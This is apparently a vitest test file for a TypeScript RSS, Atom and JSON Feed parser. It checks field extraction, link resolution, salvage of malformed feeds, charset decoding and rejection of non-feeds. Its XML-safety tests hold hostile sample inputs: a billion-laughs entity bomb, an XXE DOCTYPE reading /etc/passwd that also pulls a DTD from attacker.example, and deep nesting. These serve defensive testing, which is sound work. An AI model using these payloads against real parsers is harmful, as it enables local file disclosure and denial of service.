import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { ReadoutError } from '../core/errors.js';
import { parseFeed } from './feed.js';

const rss2 = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:wfw="http://wellformedweb.org/CommentAPI/" xmlns:atom="http://www.w3.org/2005/Atom">
  <channel>
    <title>Ministry &amp; Press</title>
    <link>https://news.example.org/</link>
    <atom:link rel="self" href="https://news.example.org/feed.xml"/>
    <description>Statements</description>
    <item>
      <title>Envoy &lt;em&gt;arrives&lt;/em&gt; for talks</title>
      <link>/2024/05/envoy-arrives</link>
      <guid isPermaLink="false">story-1001</guid>
      <pubDate>Tue, 14 May 2024 09:30:00 +0200</pubDate>
      <dc:creator>Ana Ruiz</dc:creator>
      <description><![CDATA[<p>The envoy <b>arrived</b> on Tuesday.</p><p>Talks begin&nbsp;today.</p>]]></description>
      <content:encoded><![CDATA[<p>First paragraph.</p><p>Second<br/>line.</p><script>track()</script>]]></content:encoded>
      <wfw:commentRss>/2024/05/envoy-arrives/comments/feed</wfw:commentRss>
    </item>
    <item>
      <title>Second story</title>
      <guid>https://news.example.org/2024/05/second</guid>
      <author>desk@example.org (Night Desk)</author>
      <pubDate>Wed, 15 May 24 1500 GMT</pubDate>
    </item>
  </channel>
</rss>`;

describe('parseFeed: RSS 2.0', () => {
  const feed = parseFeed(rss2, null);

  it('reads the channel', () => {
    expect(feed.title).toBe('Ministry & Press');
    expect(feed.link).toBe('https://news.example.org/');
    expect(feed.items).toHaveLength(2);
  });

  it('reads an item: guid id, absolute link, ISO date, author, plain summary and content', () => {
    const item = feed.items[0]!;
    expect(item.id).toBe('story-1001');
    expect(item.title).toBe('Envoy arrives for talks');
    expect(item.link).toBe('https://news.example.org/2024/05/envoy-arrives');
    expect(item.published).toBe('2024-05-14T07:30:00.000Z');
    expect(item.author).toBe('Ana Ruiz');
    expect(item.summary).toBe('The envoy arrived on Tuesday. Talks begin today.');
    expect(item.content).toBe('First paragraph.\n\nSecond\nline.');
    expect(item.commentsFeed).toBe('https://news.example.org/2024/05/envoy-arrives/comments/feed');
  });

  it('uses a permalink guid as the link, cleans "email (Name)" authors, reads two-digit years', () => {
    const item = feed.items[1]!;
    expect(item.link).toBe('https://news.example.org/2024/05/second');
    expect(item.id).toBe('https://news.example.org/2024/05/second');
    expect(item.author).toBe('Night Desk');
    expect(item.published).toBe('2024-05-15T15:00:00.000Z');
    expect(item.summary).toBeNull();
  });

  it('does not take a guid marked isPermaLink="false" as the link', () => {
    const f = parseFeed('<rss><channel><item><title>t</title><guid isPermaLink="false">https://x.example/a</guid></item></channel></rss>', null);
    expect(f.items[0]!.link).toBeNull();
    expect(f.items[0]!.id).toBe('https://x.example/a');
  });

  it('resolves against item xml:base first, then the channel link, then baseUrl', () => {
    const xml = `<rss><channel><link>https://site.example/news/</link>
      <item xml:base="https://a.example/section/"><title>a</title><link>one</link></item>
      <item><title>b</title><link>two</link></item></channel></rss>`;
    expect(parseFeed(xml, null).items.map((i) => i.link)).toEqual(['https://a.example/section/one', 'https://site.example/news/two']);
    const noLink = '<rss><channel><item><title>c</title><link>three</link></item></channel></rss>';
    expect(parseFeed(noLink, 'https://feeds.example/x/rss.xml').items[0]!.link).toBe('https://feeds.example/x/three');
    expect(parseFeed(noLink, null).items[0]!.link).toBe('three');
  });

  it('gives items without guid or link a stable synthetic id', () => {
    const xml = '<rss><channel><item><title>No link</title><description>text</description></item></channel></rss>';
    const a = parseFeed(xml, null).items[0]!.id;
    expect(a).toMatch(/^urn:readout:item:[0-9a-f]{20}$/);
    expect(parseFeed(xml, null).items[0]!.id).toBe(a);
  });
});

describe('parseFeed: RSS 1.0 and 0.9x', () => {
  it('reads RDF items that sit beside the channel, with dc:date and rdf:about', () => {
    const xml = `<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://r.example/"><title>RDF site</title><link>https://r.example/</link></channel>
  <item rdf:about="https://r.example/1"><title>One</title><link>https://r.example/1</link><dc:date>2023-11-02T10:00:00+01:00</dc:date><dc:creator>Lee</dc:creator></item>
  <item rdf:about="https://r.example/2"><title>Two</title><dc:date>2023-11-03</dc:date></item>
</rdf:RDF>`;
    const feed = parseFeed(xml, null);
    expect(feed.title).toBe('RDF site');
    expect(feed.items.map((i) => [i.id, i.link, i.published, i.author])).toEqual([
      ['https://r.example/1', 'https://r.example/1', '2023-11-02T09:00:00.000Z', 'Lee'],
      ['https://r.example/2', 'https://r.example/2', '2023-11-03T00:00:00.000Z', null],
    ]);
  });

  it('reads RSS 0.91 without namespaces', () => {
    const xml = '<rss version="0.91"><channel><title>Old</title><link>http://o.example/</link><item><title>A</title><link>http://o.example/a</link><description>d</description></item></channel></rss>';
    expect(parseFeed(xml, null).items[0]).toMatchObject({ title: 'A', link: 'http://o.example/a', summary: 'd' });
  });
});

const atom = `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://blog.example/">
  <title type="html">Notes &amp;amp; Replies</title>
  <link rel="self" href="https://blog.example/atom.xml"/>
  <link rel="alternate" type="text/html" href="/"/>
  <author><name>House Author</name></author>
  <entry>
    <id>tag:blog.example,2024:1</id>
    <title>Talks resume</title>
    <link rel="edit" href="/api/1"/>
    <link rel="alternate" type="text/html" href="/2024/talks-resume"/>
    <link rel="replies" type="application/atom+xml" href="/2024/talks-resume/comments.atom"/>
    <updated>2024-03-02T08:00:00Z</updated>
    <published>2024-03-01T18:15:00-05:00</published>
    <summary type="html">&lt;p&gt;Short &lt;i&gt;version&lt;/i&gt;&lt;/p&gt;</summary>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Long version, one.</p><p>Two &amp; three.</p></div></content>
  </entry>
  <entry>
    <id>tag:blog.example,2024:2</id>
    <title>Only updated</title>
    <link href="2024/only-updated"/>
    <updated>2024-03-03T00:00:00Z</updated>
    <author><name>Guest</name></author>
    <content type="text">Plain &lt;b&gt; text</content>
  </entry>
</feed>`;

describe('parseFeed: Atom', () => {
  const feed = parseFeed(atom, null);

  it('reads the feed title and alternate link', () => {
    expect(feed.title).toBe('Notes & Replies');
    expect(feed.link).toBe('https://blog.example/');
  });

  it('picks the alternate link, published date, inherited author, html summary, xhtml content, replies feed', () => {
    expect(feed.items[0]).toEqual({
      id: 'tag:blog.example,2024:1',
      title: 'Talks resume',
      link: 'https://blog.example/2024/talks-resume',
      published: '2024-03-01T23:15:00.000Z',
      author: 'House Author',
      summary: 'Short version',
      content: 'Long version, one.\n\nTwo & three.',
      commentsFeed: 'https://blog.example/2024/talks-resume/comments.atom',
    });
  });

  it('falls back to updated, keeps text content literal and derives the summary from it', () => {
    const e = feed.items[1]!;
    expect(e.published).toBe('2024-03-03T00:00:00.000Z');
    expect(e.author).toBe('Guest');
    expect(e.link).toBe('https://blog.example/2024/only-updated');
    expect(e.content).toBe('Plain <b> text');
    expect(e.summary).toBe('Plain <b> text');
  });

  it('reads a document whose Atom elements use a prefix', () => {
    const xml = `<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:title>P</a:title>
      <a:entry><a:id>urn:x:1</a:id><a:title>Prefixed</a:title><a:link href="https://p.example/1"/></a:entry></a:feed>`;
    expect(parseFeed(xml, null).items[0]).toMatchObject({ id: 'urn:x:1', title: 'Prefixed', link: 'https://p.example/1' });
  });
});

describe('parseFeed: JSON Feed', () => {
  const json = {
    version: 'https://jsonfeed.org/version/1.1',
    title: 'JSON news',
    home_page_url: 'https://j.example/',
    authors: [{ name: 'Desk' }],
    items: [
      { id: 42, url: '/a', title: 'A &amp; B', content_html: '<p>One</p><p>Two</p>', date_published: '2024-01-05T10:00:00+00:00' },
      { id: 'b', external_url: 'https://elsewhere.example/b', content_text: 'Just text', summary: 'Sum', date_modified: '2024-01-06T00:00:00Z', authors: [{ name: 'X' }, { name: 'Y' }] },
    ],
  };

  it('reads items (numeric ids, relative urls, content_html/text, authors, dates)', () => {
    const feed = parseFeed(JSON.stringify(json), null);
    expect(feed).toMatchObject({ title: 'JSON news', link: 'https://j.example/' });
    expect(feed.items[0]).toMatchObject({ id: '42', link: 'https://j.example/a', title: 'A & B', content: 'One\n\nTwo', summary: 'One Two', author: 'Desk', published: '2024-01-05T10:00:00.000Z' });
    expect(feed.items[1]).toMatchObject({ id: 'b', link: 'https://elsewhere.example/b', content: 'Just text', summary: 'Sum', author: 'X, Y', published: '2024-01-06T00:00:00.000Z' });
  });

  it('salvages the complete items of a truncated JSON Feed', () => {
    const text = JSON.stringify(json);
    const cut = text.slice(0, text.indexOf('"external_url"'));
    const feed = parseFeed(cut, null);
    expect(feed.title).toBe('JSON news');
    expect(feed.items.map((i) => i.id)).toEqual(['42']);
  });

  it('refuses JSON that is not a JSON Feed', () => {
    expect(() => parseFeed('{"name": "package", "version": "1.0.0"}', null)).toThrow(/not a JSON Feed/);
  });
});

describe('parseFeed: malformed feeds are salvaged', () => {
  it('keeps a bare & in a URL and an undeclared HTML entity', () => {
    const xml = '<rss><channel><title>Caf&eacute;</title><item><title>Q&A</title><link>https://e.example/?a=1&b=2</link></item></channel></rss>';
    const feed = parseFeed(xml, null);
    expect(feed.title).toBe('Café');
    expect(feed.items[0]).toMatchObject({ title: 'Q&A', link: 'https://e.example/?a=1&b=2' });
  });

  it('recovers from unclosed tags', () => {
    const xml = `<rss><channel><title>Broken</title>
      <item><title>One<link>https://e.example/1</link></item>
      <item><title>Two</title><link>https://e.example/2</link>
      <item><title>Three</title><link>https://e.example/3</link></item>
      </channel></rss>`;
    expect(parseFeed(xml, null).items.map((i) => i.link)).toEqual(['https://e.example/1', 'https://e.example/2', 'https://e.example/3']);
  });

  it('keeps the complete items of a truncated file and drops the cut-off one', () => {
    const xml = `<rss><channel><title>Cut</title>
      <item><title>One</title><link>https://e.example/1</link></item>
      <item><title>Two</title><link>https://e.example/2</link><description>partial tex`;
    const feed = parseFeed(xml, null);
    expect(feed.items.map((i) => i.link)).toEqual(['https://e.example/1', 'https://e.example/2']);
    expect(feed.items[1]!.summary).toBeNull();
    const cutInLink = parseFeed('<rss><channel><item><title>A</title><link>https://e.example/1</link></item><item><title>B</title><link>https://e.exa', null);
    expect(cutInLink.items.map((i) => i.link)).toEqual(['https://e.example/1']);
  });

  it('ignores an empty <item/> nested in an item', () => {
    const xml = '<rss><channel><item><title>A</title><link>https://e.example/a</link><item/></item></channel></rss>';
    expect(parseFeed(xml, null).items).toHaveLength(1);
  });

  it('reads a bare <channel> without its <rss> wrapper', () => {
    expect(parseFeed('<channel><title>C</title><item><title>A</title><link>https://e.example/a</link></item></channel>', null).items).toHaveLength(1);
  });

  it('finds the feed after junk before the root element', () => {
    const xml = '<br />\n<b>Warning</b>: something in feed.php on line 3<br />\n<?xml version="1.0"?><rss><channel><item><title>A</title><link>https://e.example/a</link></item></channel></rss>';
    expect(parseFeed(xml, null).items).toHaveLength(1);
  });
});

describe('parseFeed: encodings', () => {
  it('decodes windows-1251 named in the XML declaration', () => {
    const xml = '<?xml version="1.0" encoding="windows-1251"?><rss><channel><title>Новости</title><item><title>Переговоры</title><link>https://e.example/1</link></item></channel></rss>';
    const feed = parseFeed(iconv.encode(xml, 'windows-1251'), null);
    expect(feed.title).toBe('Новости');
    expect(feed.items[0]!.title).toBe('Переговоры');
  });

  it('decodes ISO-8859-1 named in the XML declaration', () => {
    const xml = '<?xml version="1.0" encoding="ISO-8859-1"?><rss><channel><title>Notícias</title><item><title>Reunião à tarde</title><link>https://e.example/1</link></item></channel></rss>';
    expect(parseFeed(iconv.encode(xml, 'latin1'), null).items[0]!.title).toBe('Reunião à tarde');
  });

  it('lets the Content-Type charset win over the declaration, and reads UTF-16 with a BOM', () => {
    const xml = '<?xml version="1.0" encoding="utf-8"?><rss><channel><title>Ça</title><item><title>é</title><link>https://e.example/1</link></item></channel></rss>';
    expect(parseFeed(iconv.encode(xml, 'latin1'), null, { contentType: 'text/xml; charset=iso-8859-1' }).title).toBe('Ça');
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml.replace('utf-8', 'utf-16'), 'utf16le')]);
    expect(parseFeed(utf16, null).title).toBe('Ça');
  });
});

describe('parseFeed: not a feed', () => {
  const fails = (input: string | Buffer, pattern: RegExp): void => {
    let error: unknown;
    try {
      parseFeed(input, null, { label: 'page.xml' });
    } catch (err) {
      error = err;
    }
    expect(error).toBeInstanceOf(ReadoutError);
    expect((error as ReadoutError).code).toBe('parse');
    expect((error as ReadoutError).message).toMatch(/^page\.xml is not a feed: /);
    expect((error as ReadoutError).message).toMatch(pattern);
    expect((error as ReadoutError).hint).toBeTruthy();
  };

  it('names an HTML page, other XML, plain text, binary data and an empty file', () => {
    fails('<!DOCTYPE html><html><head><title>Hi</title></head><body><p>x</p></body></html>', /HTML page/);
    fails('<head><title>Moved</title></head><body>here</body>', /HTML page/);
    fails('<?xml version="1.0"?><config><a>1</a></config>', /root element is <config>/);
    fails('just some words', /no XML elements/);
    fails(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0x0d, 1, 2, 3]), /binary/);
    fails('   ', /empty/);
    fails('<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://e.example/</loc></url></urlset>', /sitemap/);
  });
});

describe('parseFeed: XML safety', () => {
  it('does not expand a billion-laughs entity bomb, and returns quickly', () => {
    const lol = [
      '<?xml version="1.0"?>',
      '<!DOCTYPE rss [',
      '  <!ENTITY lol "lol">',
      ...Array.from({ length: 9 }, (_, k) => `  <!ENTITY lol${k + 1} "${`&lol${k === 0 ? '' : k};`.repeat(10)}">`),
      ']>',
      '<rss><channel><title>&lol9;</title><item><title>Bomb &lol9;</title><link>https://e.example/1</link></item></channel></rss>',
    ].join('\n');
    const start = performance.now();
    const feed = parseFeed(lol, null);
    expect(performance.now() - start).toBeLessThan(500);
    expect(feed.items).toHaveLength(1);
    expect(feed.title).toBe('&lol9;');
    expect(feed.items[0]!.title!.length).toBeLessThan(50);
  });

  it('never resolves external entities (XXE), SYSTEM or PUBLIC, nor parameter entities', () => {
    const xxe = `<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY pub PUBLIC "-//X//Y" "file:///etc/hostname">
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;
]>
<rss><channel><title>&xxe;</title><item><title>&pub;</title><description>&xxe;</description><link>https://e.example/1</link></item></channel></rss>`;
    const feed = parseFeed(xxe, null);
    const text = JSON.stringify(feed);
    expect(text).not.toMatch(/root:|\/bin\/(ba)?sh/);
    expect(feed.title).toBe('&xxe;');
    expect(feed.items[0]!.title).toBe('&pub;');
  });

  it('survives very deep nesting without overflowing the stack', () => {
    const deep = `<rss><channel><item><title>Deep</title><link>https://e.example/d</link><description>${'<div>'.repeat(100_000)}x${'</div>'.repeat(100_000)}</description></item></channel></rss>`;
    expect(parseFeed(deep, null).items[0]!.title).toBe('Deep');
  });
});

describe('parseFeed: speed', () => {
  it('parses thousands of items per second', () => {
    const items = Array.from(
      { length: 2000 },
      (_, k) => `<item><title>Story ${k} &amp; more</title><link>https://e.example/${k}</link><guid>id-${k}</guid><pubDate>Mon, 06 May 2024 10:${String(k % 60).padStart(2, '0')}:00 GMT</pubDate><description>&lt;p&gt;A paragraph about story ${k}, with &lt;a href="https://e.example/x"&gt;a link&lt;/a&gt; and some more words to make it realistic.&lt;/p&gt;</description></item>`,
    ).join('\n');
    const xml = `<rss><channel><title>Big</title>${items}</channel></rss>`;
    const start = performance.now();
    const feed = parseFeed(Buffer.from(xml), null);
    const seconds = (performance.now() - start) / 1000;
    expect(feed.items).toHaveLength(2000);
    expect(2000 / seconds).toBeGreaterThan(2000);
  });
});
